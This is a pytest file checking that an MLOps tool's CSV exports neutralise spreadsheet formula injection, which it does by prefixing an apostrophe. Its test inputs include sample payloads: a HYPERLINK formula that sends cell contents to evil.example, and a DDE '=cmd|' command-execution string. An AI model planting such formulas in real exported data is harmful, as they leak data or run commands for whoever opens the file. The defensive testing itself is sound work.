"""CSV exports are safe to open in a spreadsheet (OWASP's CSV-injection rule)."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlops_core import ControlRoom
from mlops_core.cli import main
from mlops_core.exports import _PLAIN_NUMBER, TRIGGERS, neutralize, safe_csv


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0",
                                  "+1+cmd|x", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_cells_get_an_apostrophe(cell):
    assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain text", "-1.5", "+3", "1e-3", "", "a=b", 3, -2.5, None])
def test_other_cells_are_left_alone(cell):
    assert neutralize(cell) == cell


@given(st.lists(st.text(max_size=30), min_size=1, max_size=8))
def test_no_exported_text_cell_starts_a_formula(cells):
    frame = pd.DataFrame({"reason": cells, "n": range(len(cells))})
    rows = list(csv.reader(io.StringIO(safe_csv(frame), newline="")))
    assert rows[0] == ["reason", "n"] and len(rows) == len(cells) + 1
    for original, (written, _n) in zip(cells, rows[1:], strict=False):
        assert written in (original, "'" + original)
        assert not written.startswith(TRIGGERS) or _PLAIN_NUMBER.fullmatch(written)
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(cells))]


def test_cli_csv_output_is_neutralized(registered_credit_db, capsys):
    ControlRoom(registered_credit_db).model("credit").set_policy(mode="manual")
    from mlops_core.access import Identity

    ControlRoom(registered_credit_db, identity=Identity("=cmd|' /C calc'!A0", "operator")).model("credit").set_policy(
        mode="manual")
    assert main(["audit", "--csv", "--db", str(registered_credit_db)]) == 0
    out = capsys.readouterr().out
    rows = pd.read_csv(io.StringIO(out))
    assert "'=cmd|' /C calc'!A0" in set(rows["actor"])
    assert main(["runs", "--csv", "--db", str(registered_credit_db)]) == 0
    assert "id" in capsys.readouterr().out.splitlines()[0]
